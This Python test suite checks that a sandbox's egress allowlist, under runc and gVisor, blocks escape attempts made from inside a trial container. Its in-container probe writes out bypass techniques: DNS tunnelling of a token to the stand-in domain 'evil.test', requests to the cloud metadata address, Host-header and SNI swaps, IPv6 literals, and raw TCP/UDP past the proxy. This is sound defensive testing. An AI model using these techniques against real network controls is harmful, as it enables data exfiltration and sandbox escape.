"""Attacks on a docker trial's ``allowlist`` phase (issue 24 item 3), under runc and gVisor.

"The internet" is a network namespace the test makes (``support.netns.PublicNet``: HTTP
on 80, TLS on 443 recording each SNI, plain TCP and UDP on 8443, and a DNS server on 53
recording every query, each logging what reached it); the trial's egress proxy resolves
``pub.test`` (listed, with ``*.pub.test``; ``mirror.test`` is listed without a wildcard)
and ``evil.test`` (not listed) to it from the run's pinned names. A listener on every host
address (``0.0.0.0`` and ``::``) stands for the host's own services.

Two trials side by side, one under runc and one under gVisor, each with an ``allowlist``
agent phase and a ``public`` verifier. Each agent attacks from inside: the listed host by
HTTP and HTTPS (CONNECT + SNI) through the proxy the phase's environment names; an
unlisted host, the listed host's raw IP, IPv6 literals (loopback, the host's own), a Host
header naming another host than the URL, a mismatched SNI, the host's listener and the
metadata address through the proxy; DNS for listed and unlisted names through the
container's resolver, by UDP and by TCP; DNS tunnelling through it (TXT for a listed
wildcard's subdomain and for an unlisted domain, long labels under an exactly listed name
and an unlisted one) and straight to the namespace's DNS server, an outside resolver, by
UDP and TCP; the other trial's proxy and DNS responder on the gateway, with requests that
would reach the public servers or the other trial's events if they got there; raw TCP and
UDP to the public host, the host and the metadata address, past the proxy. Its ``public``
verifier then gets the public rules: no proxy, every name resolved, the namespace's DNS
server reached at a routed public-like address (the control that a query would be seen),
the other trial's proxy and responder still out of reach. Judged from outside: what the
servers and the listener saw, the trials' ``network_refused`` events, and what is left on
the host after they stopped.
"""

from __future__ import annotations

import json
import secrets
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Any

import pytest
from support.egress_runtime import egress_runtime
from support.net import Listener, primary_addresses
from support.netns import PublicNet
from support.probes import PROXY_CLIENT
from support.probes import TrialSeen as Trial  # what one allowlist trial saw

from sandbox.backend import PhaseRequest, Sandbox, SandboxSpec
from sandbox.docker import netfilter
from sandbox.environment import FIXED_PATH
from sandbox.network_policy import NetworkPolicy

pytestmark = [pytest.mark.docker, pytest.mark.root]

#: ``::1`` listed as a careless task might: the proxy refuses it all the same.
ALLOWLIST = NetworkPolicy(
    mode="allowlist", allowed_hosts=("pub.test", "*.pub.test", "mirror.test", "::1")
)
PUBLIC = NetworkPolicy(mode="public")
METADATA = "169.254.169.254"
TXT = 16
#: A label as long as DNS allows: what a tunnel packs its data in.
LONG = "d" * 63

#: Runs in the trial: every attempt's outcome as one JSON line.
PROBE = (
    PROXY_CLIENT
    + r"""
out, public, gateway, port = {}, os.environ["PUB"], os.environ["GW"], os.environ["HPORT"]
token, long, TXT = os.environ["TOKEN"], os.environ["LONG"], 16
other_host, other_port = os.environ["OTHER_PROXY"].rsplit(":", 1)
other_dns = int(os.environ["OTHER_DNS"].rsplit(":", 1)[1])
out["env"] = {k: os.environ.get(k) for k in ("HTTP_PROXY", "https_proxy", "NO_PROXY")}
def resolve(name):
    try:
        return sorted({a[4][0] for a in socket.getaddrinfo(name, 80, socket.AF_INET)})
    except socket.gaierror as exc:
        return "gaierror %s" % exc.errno
resolver = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
checks = {
    "dns-listed": lambda: resolve("pub.test"),
    "dns-unlisted": lambda: resolve("evil.test"),
    "raw-public-80": lambda: raw(public, 80),
    # Another trial's proxy and DNS responder on the gateway: a request that the other
    # proxy would relay to the public server, a name its responder would record.
    "other-proxy": lambda: ask(other_host, int(other_port),
        "GET http://pub.test/%s-other HTTP/1.1\r\nHost: pub.test\r\n\r\n" % token),
    "other-dns-udp": lambda: dns(other_host, "%s.evil.test" % token, TXT, port=other_dns),
    "other-dns-tcp": lambda: dns(other_host, "%s.evil.test" % token, TXT, True, other_dns),
}
if os.environ.get("ROLE") == "verifier":
    # The control: a query straight to the namespace's DNS server, at an address public
    # reaches (a router away): the server logs it.
    checks["dns-outside-control"] = lambda: dns(os.environ["ROUTED"], "%s.ctl.test" % token, TXT)
else:
    proxy_host, proxy_port = os.environ["HTTP_PROXY"].rpartition("/")[2].rsplit(":", 1)
    swap = "GET http://%s/%s-swap HTTP/1.1\r\nHost: %s\r\n\r\n"
    checks.update({
        "http": lambda: get("http://pub.test/"),
        "http-wildcard": lambda: get("http://www.pub.test/"),
        "https": lambda: tunnel("pub.test:443", "pub.test"),
        "http-unlisted": lambda: get("http://evil.test/"),
        "http-raw-ip": lambda: get("http://%s/" % public),
        "http-host": lambda: get("http://%s:%s/" % (gateway, port)),
        "http-metadata": lambda: get("http://%s/" % os.environ["META"]),
        # Sent to the proxy as they are: urllib would not proxy ::1 (NO_PROXY names it).
        "http-ipv6-loopback": lambda: ask(proxy_host, int(proxy_port),
            "GET http://[::1]:%s/ HTTP/1.1\r\nHost: [::1]:%s\r\n\r\n" % (port, port)),
        "http-ipv6-host": lambda: ask(proxy_host, int(proxy_port),
            "GET http://[%s]:%s/ HTTP/1.1\r\nHost: [%s]:%s\r\n\r\n"
            % (os.environ["HOST6"], port, os.environ["HOST6"], port)),
        "connect-ipv6-loopback": lambda: tunnel("[::1]:%s" % port, None),
        # On an allowed port, so that the address itself is what is refused.
        "http-ipv6-loopback-80": lambda: ask(proxy_host, int(proxy_port),
            "GET http://[::1]/ HTTP/1.1\r\nHost: [::1]\r\n\r\n"),
        "connect-ipv6-host-443": lambda: tunnel("[%s]:443" % os.environ["HOST6"], None),
        "connect-ipv4-mapped": lambda: tunnel("[::ffff:%s]:%s" % (gateway, port), None),
        "host-swap-unlisted": lambda: ask(proxy_host, int(proxy_port),
                                          swap % ("pub.test", token, "evil.test")),
        "host-swap-listed": lambda: ask(proxy_host, int(proxy_port),
                                        swap % ("evil.test", token, "pub.test")),
        "https-unlisted": lambda: tunnel("evil.test:443", "evil.test"),
        "https-sni-mismatch": lambda: tunnel("pub.test:443", "evil.test"),
        "tcp-dns-listed": lambda: tcp_dns(resolver, "pub.test"),
        "tcp-dns-unlisted": lambda: tcp_dns(resolver, "evil.test"),
        "tcp-dns-gateway": lambda: tcp_dns(gateway, "www.pub.test"),
        # DNS tunnelling through the container's resolver: the responder answers itself.
        "tunnel-txt-listed": lambda: dns(resolver, "%s.pub.test" % token, TXT),
        "tunnel-txt-unlisted": lambda: dns(resolver, "%s.evil.test" % token, TXT),
        "tunnel-long-listed": lambda: dns(resolver, "%s.%s.mirror.test" % (long, token), 1),
        "tunnel-long-unlisted": lambda: dns(resolver, "%s.%s.evil.test" % (long, token), 1),
        "tunnel-long-tcp": lambda: dns(resolver, "%s.%s.evil.test" % (long, token), TXT, True),
        # Straight to an outside resolver (the namespace's DNS server), by UDP and TCP.
        "outside-dns-udp": lambda: dns(public, "%s.out.evil.test" % token, TXT),
        "outside-dns-tcp": lambda: dns(public, "%s.out.evil.test" % token, TXT, True),
        "raw-public-8443": lambda: raw(public, 8443),
        "raw-host": lambda: raw(gateway, int(port)),
        "raw-metadata": lambda: raw(os.environ["META"], 80),
    })
    for host, p in ((public, 8443), (gateway, int(port))):
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(b"UDP-CANARY", (host, p)); u.close()
# All at once: each refused attempt waits out its timeout, side by side.
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor(len(checks)) as pool:
    futures = {label: pool.submit(check) for label, check in checks.items()}
out.update({label: future.result() for label, future in futures.items()})
print(json.dumps(out))
"""
)

RUNTIMES = {"runc": None, "runsc": "runsc"}


@dataclass
class Outside:
    """The namespace and a public-like address routed to it."""

    net: PublicNet
    routed: str


@pytest.fixture(scope="module")
def public(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Outside]:
    with PublicNet(tmp_path_factory.mktemp("public")) as net:
        yield Outside(net, net.route())


def _phase(sandbox: Sandbox, role: str, env: dict[str, str]) -> dict[str, Any]:
    full = {"PATH": FIXED_PATH, "PROBE": PROBE, "ROLE": role, "LONG": LONG, **env}
    argv = ["bash", "-c", 'python3 -c "$PROBE"']
    result = sandbox.run_phase(PhaseRequest(role=role, argv=argv, env=full, timeout_sec=120))  # type: ignore[arg-type]
    data, _event = sandbox.read_file(f"{sandbox.paths.logs}/{role}.stdout", max_bytes=1 << 16)
    text = (data or b"").decode()
    lines = [line for line in text.splitlines() if line.startswith("{")]
    if result.exit_code != 0 or not lines:
        errors, _ = sandbox.read_file(f"{sandbox.paths.logs}/{role}.stderr", max_bytes=1 << 16)
        raise AssertionError(f"{result}\n{text}\n{(errors or b'').decode()}")
    report: dict[str, Any] = json.loads(lines[-1])
    return report


def _host6() -> str:
    """The host's own IPv6 address (a documentation one where it has none)."""
    return primary_addresses().get("ipv6", "2001:db8::1")


def _reachable(address: str) -> bool:
    host, _, port = address.rpartition(":")
    try:
        socket.create_connection((host, int(port)), timeout=3).close()
    except OSError:
        return False
    return True


@dataclass
class Run:
    """Both trials, and what the servers and the host's listener saw meanwhile."""

    trials: dict[str, Trial]
    seen: str
    host_port: int
    host_received: list[Any]
    #: ``iptables -S`` and its ``nat PREROUTING`` after both trials stopped.
    listing: str
    nat: str


def _both(outside: Outside) -> Run:
    """A trial under each runtime, side by side; each attacks the other's proxy too."""
    from sandbox.docker.backend import DockerSandbox

    public = outside.net
    tokens = {name: f"{name}-{secrets.token_hex(6)}" for name in RUNTIMES}
    before = public.seen()
    with (
        egress_runtime(RUNTIMES["runc"], "allowlist") as runc,
        egress_runtime(RUNTIMES["runsc"], "allowlist") as runsc,
        Listener(ipv6=True) as host,
    ):
        runtimes = {"runc": runc, "runsc": runsc}
        sandboxes: dict[str, Any] = {}
        try:
            for name, runtime in runtimes.items():
                runtime.egress.hosts = {
                    "pub.test": [public.ip],
                    "www.pub.test": [public.ip],
                    "mirror.test": [public.ip],
                    "evil.test": [public.ip],
                }
                spec = SandboxSpec(
                    trial_id=f"allowlist-{name}-{secrets.token_hex(3)}",
                    allow_internet=True,
                    networks={"agent": ALLOWLIST, "verifier": PUBLIC},
                )
                sandboxes[name] = DockerSandbox(spec, runtime)
                sandboxes[name].start()
            facts = {name: sandbox.describe() for name, sandbox in sandboxes.items()}
            envs = {}
            for name, other in (("runc", "runsc"), ("runsc", "runc")):
                envs[name] = {
                    "PUB": public.ip,
                    "GW": facts[name]["egress_proxy"].rpartition(":")[0],
                    "HPORT": str(host.port),
                    "META": METADATA,
                    "HOST6": _host6(),
                    "ROUTED": outside.routed,
                    "TOKEN": tokens[name],
                    "OTHER_PROXY": facts[other]["egress_proxy"],
                    "OTHER_DNS": facts[other]["egress_dns"],
                }
            with ThreadPoolExecutor(2) as pool:
                running = {
                    name: pool.submit(_trial, sandboxes[name], tokens[name], envs[name])
                    for name in RUNTIMES
                }
                trials = {name: future.result() for name, future in running.items()}
        finally:
            for sandbox in sandboxes.values():
                sandbox.stop()
        time.sleep(0.5)  # the listener's and the servers' threads log what they accepted
    listing = netfilter.run("iptables", "-S").stdout
    nat = subprocess.run(
        ["iptables", "-t", "nat", "-S", "PREROUTING"], capture_output=True, text=True
    ).stdout
    return Run(
        trials=trials, seen=public.seen()[len(before) :], host_port=host.port,
        host_received=list(host.received), listing=listing, nat=nat,
    )  # fmt: skip


def _trial(sandbox: Any, token: str, env: dict[str, str]) -> Trial:
    agent = _phase(sandbox, "agent", env)
    agent_events = sandbox.network_events()
    verifier = _phase(sandbox, "verifier", env)
    return Trial(
        token=token, agent=agent, verifier=verifier, agent_events=agent_events,
        verifier_events=sandbox.network_events(), facts=sandbox.describe(),
    )  # fmt: skip


@pytest.fixture(scope="module")
def run(public: Outside) -> Run:
    return _both(public)


@pytest.mark.parametrize("name", list(RUNTIMES))
def test_an_allowlist_phase_reaches_only_its_listed_hosts_through_the_proxy(
    run: Run, public: Outside, name: str
) -> None:
    trial = run.trials[name]
    other = run.trials["runsc" if name == "runc" else "runc"]
    agent, verifier, facts, token = trial.agent, trial.verifier, trial.facts, trial.token
    agent_events, verifier_events = trial.agent_events, trial.verifier_events
    ip, seen = public.net.ip, run.seen
    gateway = facts["egress_proxy"].rpartition(":")[0]
    # The phase's environment names the proxy; loopback stays direct.
    proxy_url = f"http://{facts['egress_proxy']}"
    assert agent["env"] == {
        "HTTP_PROXY": proxy_url,
        "https_proxy": proxy_url,
        "NO_PROXY": "localhost,127.0.0.1,::1",
    }, agent
    # Listed: HTTP (also under the wildcard) and HTTPS with a matching SNI; DNS answers it.
    assert agent["http"] == "PUBLIC-OK host=pub.test", agent
    assert agent["http-wildcard"] == "PUBLIC-OK host=www.pub.test", agent
    assert agent["https"] == "TLS-OK sni=pub.test", agent
    assert agent["dns-listed"] == [ip], agent
    # Refused by the proxy: unlisted, raw IP, the host, metadata, IPv6 literals (loopback,
    # the host's own, IPv4-mapped), a Host header other than the URL's, a mismatched SNI.
    for label in ("http-unlisted", "http-raw-ip", "http-host", "http-metadata"):
        assert agent[label] == "HTTP 403", (label, agent)
    for label in ("http-ipv6-loopback", "http-ipv6-host", "connect-ipv6-loopback",
                  "connect-ipv4-mapped", "https-unlisted", "http-ipv6-loopback-80",
                  "connect-ipv6-host-443"):  # fmt: skip
        assert agent[label].startswith("HTTP/1.1 403"), (label, agent)
    for label in ("host-swap-unlisted", "host-swap-listed"):
        assert agent[label].startswith(("HTTP/1.1 403", "HTTP/1.1 400")), (label, agent)
    assert "TLS-OK" not in agent["https-sni-mismatch"], agent
    assert isinstance(agent["dns-unlisted"], str), agent  # NXDOMAIN, nothing resolved
    # DNS over TCP, through the engine's resolver and to the gateway: the same answers.
    assert agent["tcp-dns-listed"] == [0, ip], agent
    assert agent["tcp-dns-gateway"] == [0, ip], agent
    assert agent["tcp-dns-unlisted"] == [3, None], agent  # NXDOMAIN
    # DNS tunnelling through the resolver: a listed wildcard's TXT gets no data, the rest
    # NXDOMAIN, answered by the responder itself (nothing resolved upstream).
    assert agent["tunnel-txt-listed"] == [0, 0], agent
    for label in ("tunnel-txt-unlisted", "tunnel-long-listed", "tunnel-long-unlisted",
                  "tunnel-long-tcp"):  # fmt: skip
        assert agent[label] == [3, 0], (label, agent)
    # Past the proxy: nothing leaves, by TCP or UDP, nor a query to an outside resolver,
    # nor to the other trial's proxy or responder (in either phase).
    for label in ("raw-public-80", "raw-public-8443", "raw-host", "raw-metadata"):
        assert agent[label] != "CONNECTED", (label, agent)
    for report in (agent, verifier):
        for label in ("other-proxy", "other-dns-udp", "other-dns-tcp"):
            result = report[label]
            assert isinstance(result, str) and not result.startswith("HTTP"), (label, report)
    assert not isinstance(agent["outside-dns-udp"], list), agent
    assert not isinstance(agent["outside-dns-tcp"], list), agent
    # From outside: the servers saw only the listed, matching requests (both trials'),
    # the DNS server only the verifiers' control queries; the host's listener nothing.
    assert run.host_received == [], f"the host's listener was reached: {run.host_received}"
    assert "evil.test" not in seen and "tcp8443" not in seen and "UDP-CANARY" not in seen
    assert f"{token}-other" not in seen and f"{token}-swap" not in seen, seen
    assert seen.count("sni pub.test") == 2 and seen.count("tcp443") == 2, seen
    assert seen.count("Host: pub.test\\r") == 2 and seen.count("Host: www.pub.test\\r") == 2
    queries = [line for line in seen.splitlines() if line.startswith("dns ")]
    assert sorted(queries) == sorted(
        f"dns {t.token}.ctl.test type {TXT}" for t in run.trials.values()
    ), seen
    assert verifier["dns-outside-control"] == [3, 0], verifier  # the control got through
    # The other trial's responder never heard this one's names.
    assert token not in json.dumps(other.agent_events + other.verifier_events)
    # The public verifier: no proxy in its environment, any name resolves (through the
    # same responder, now public), and raw TCP meets the public rules, not the proxy-only
    # one: the namespace's /30 is on a link of the host, a subnet public keeps out.
    assert verifier["env"] == {"HTTP_PROXY": None, "https_proxy": None, "NO_PROXY": None}
    assert verifier["dns-listed"] == [ip] == verifier["dns-unlisted"], verifier
    assert verifier["raw-public-80"] != "CONNECTED", verifier
    # Every refusal is an event, with its destination.
    reasons = {(e["protocol"], e.get("host") or e.get("ip") or e.get("destination"), e["reason"])
               for e in agent_events}  # fmt: skip
    text = " | ".join(f"{p} {d}: {r}" for p, d, r in sorted(reasons, key=str))
    for needle in (
        "http evil.test: the host is not listed",
        f"http {ip}: the IP is not listed",
        f"http {gateway}: port {run.host_port} is not allowed",
        f"http {METADATA}: the IP is not listed",
        "http ::1: the IP is a private or reserved range",
        f"connect {_host6()}: the IP is not listed",
        "connect evil.test: the host is not listed",
        "tls evil.test: the ClientHello names 'evil.test', the CONNECT 'pub.test'",
        "dns evil.test: the name is not listed",
        f"dns {token}.evil.test: the name is not listed",
        f"dns {LONG}.{token}.mirror.test: the name is not listed",
        "ip allowlist: allowlist phase: only the egress proxy",
    ):
        assert needle in text, f"{needle!r} not in {text}"
    assert all(e["phase"] == "agent" for e in agent_events), agent_events
    dropped = [e for e in agent_events if e.get("refused") == "allowlist" and not e.get("logged")]
    assert dropped and dropped[0]["packets"] >= 6, dropped  # 4 TCP SYNs and 2 datagrams
    # The other trial's proxy and responder: dropped by this trial's chain, logged.
    other_port = int(other.facts["egress_proxy"].rpartition(":")[2])
    other_dns = int(other.facts["egress_dns"].rpartition(":")[2])
    logged = {(e["phase"], e["protocol"], e.get("ip"), e.get("port"), e["refused"])
              for e in agent_events + verifier_events if e.get("logged")}  # fmt: skip
    for expected in [
        ("agent", "tcp", gateway, other_port, "allowlist"),
        ("agent", "udp", gateway, other_dns, "allowlist"),
        ("agent", "udp", ip, 53, "allowlist"),
        ("verifier", "tcp", gateway, other_port, "host"),
        ("verifier", "udp", gateway, other_dns, "host"),
    ]:
        assert expected in logged, (expected, sorted(logged, key=str))
    refused = {(e["phase"], e.get("refused")) for e in verifier_events}
    assert ("verifier", "host-subnet") in refused and ("verifier", "host") in refused, refused
    assert ("verifier", "allowlist") not in refused, verifier_events
    # Nothing of the trial is left: its chain, its DNS redirect, its proxy.
    chain = facts["egress_chain"]
    assert chain not in run.listing and chain not in run.nat, run.nat
    assert not _reachable(facts["egress_proxy"]), facts


def test_a_killed_run_leaves_no_dns_redirect_cleanup_cannot_remove() -> None:
    """A run killed with -9 after an allowlist trial's chain and DNS redirect were installed.

    Its proxy was a thread of the killed process (gone with it); ``remove_leaks`` removes
    the chain and the ``nat`` redirect left on the host.
    """
    from support.docker import docker_client

    from sandbox.docker import egress
    from sandbox.docker.engine import remove_leaks

    label = f"allowlist-kill-{secrets.token_hex(4)}"
    key = f"harness-gone-{secrets.token_hex(4)}"
    script = (
        "import os, docker\n"
        "from sandbox.docker import egress\n"
        f"run = egress.EgressRun(docker.from_env(), {label!r}); run.ensure()\n"
        f"flt = egress.TrialFilter(kind='E', key={key!r}, source='172.31.254.9')\n"
        "flt.proxy = (run.gateway(), 3128, 5353)\n"
        "flt.install(); flt.restrict()\n"
        "os.kill(os.getpid(), 9)\n"
    )
    killed = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True)
    assert killed.returncode == -9, killed.stderr
    chain = egress.chain_name("E", key)

    def nat() -> str:
        return subprocess.run(
            ["iptables", "-t", "nat", "-S", "PREROUTING"], capture_output=True, text=True
        ).stdout

    assert f"dns-{chain}" in nat()
    report = remove_leaks(docker_client(), run=label)
    listing = netfilter.run("iptables", "-S").stdout
    assert chain not in listing and chain not in nat() and not report.errors, report
